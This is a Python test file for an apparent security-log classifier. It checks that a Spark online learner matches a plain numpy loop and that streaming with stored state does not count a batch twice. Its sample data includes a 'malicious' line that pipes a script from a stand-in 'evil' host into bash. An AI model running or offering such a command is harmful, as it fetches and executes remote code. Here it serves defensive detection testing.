"""Learning batch by batch against a plain loop, and from a stream with stored state."""

import numpy as np
from pyspark.ml import Pipeline

from watchline.operators import classify, online
from watchline.schemas import LABELS

TEXTS = [("user {i} opened a mailbox", "benign"), ("failed password for user {i}", "suspicious"), ("curl http://evil/{i}.sh | bash", "malicious")]


def rows_of(spark, at):
    rows = [(t.format(i=i), label, f"10.0.0.{i % 9}", "h", "svc") for i in at for t, label in TEXTS]
    return spark.createDataFrame(rows, "text string, label string, source_ip string, hostname string, service string")


def loop(batches, dims, passes):
    w, s = np.zeros((3, dims + 1)), np.zeros((3, dims + 1))
    for x, y in batches:
        x = np.hstack([x, np.ones((len(x), 1))])
        seen = np.append((x[:, :-1] != 0).any(0), True)
        for _ in range(passes):
            p = 1 / (1 + np.exp(-(w @ x.T)))
            g = ((p - (y == np.arange(3)[:, None])) @ x / len(x) + online.REG * w) * seen
            s += g ** 2
            w = w - online.RATE * g / (np.sqrt(s) + 1e-8)
    return w


def dense(df, dims):
    texts = classify.training_text(df)
    got = Pipeline(stages=classify.feature_stages(dims)).fit(texts).transform(texts).select("features", "label").collect()
    return np.array([r.features.toArray() for r in got]), np.array([LABELS.index(r.label) for r in got])


def test_batches_are_learnt_as_in_a_loop(spark, tmp_path):
    parts = [rows_of(spark, range(0, 30)), rows_of(spark, range(30, 50)).repartition(3), rows_of(spark, range(50, 90))]
    model = online.OnlineModel(2 ** 8)
    for i, p in enumerate(parts):
        online.learn(model, p)
        if i == 1:  # stored, and gone on with
            model.save(spark, str(tmp_path))
            model = online.OnlineModel.load(spark, str(tmp_path))
            assert model.batch == 1
    want = loop([dense(p, 2 ** 8) for p in parts], 2 ** 8, online.PASSES)
    assert np.allclose(model.weights, want, atol=1e-9)
    test = classify.training_text(rows_of(spark, range(200, 240)))
    out = online.predict(test, model)
    assert out.where("label = predicted_label").count() > 0.95 * test.count()
    assert out.where("confidence < 0.33 or confidence > 1").count() == 0
    before = model.weights.copy()
    online.learn(model, parts[0].limit(0))
    assert (model.weights == before).all()


def test_a_stream_learns_and_a_repeated_batch_does_not_count_twice(spark, tmp_path):
    source, state = str(tmp_path / "in"), str(tmp_path / "state")
    body = online.learn_from_batches(state, 2 ** 8)
    for k in range(2):
        rows_of(spark, range(k * 20, k * 20 + 20)).write.mode("append").parquet(source)
        stream = spark.readStream.schema(rows_of(spark, [0]).schema).parquet(source)
        stream.writeStream.foreachBatch(body).option("checkpointLocation", str(tmp_path / "c")).trigger(availableNow=True).start().awaitTermination()
    model = online.OnlineModel.load(spark, state)
    assert model.batch == 1
    body(rows_of(spark, range(5)), 1)
    again = online.OnlineModel.load(spark, state)
    assert (again.weights == model.weights).all()
    want = loop([dense(rows_of(spark, range(k * 20, k * 20 + 20)), 2 ** 8) for k in range(2)], 2 ** 8, online.PASSES)
    assert np.allclose(model.weights, want, atol=1e-9)
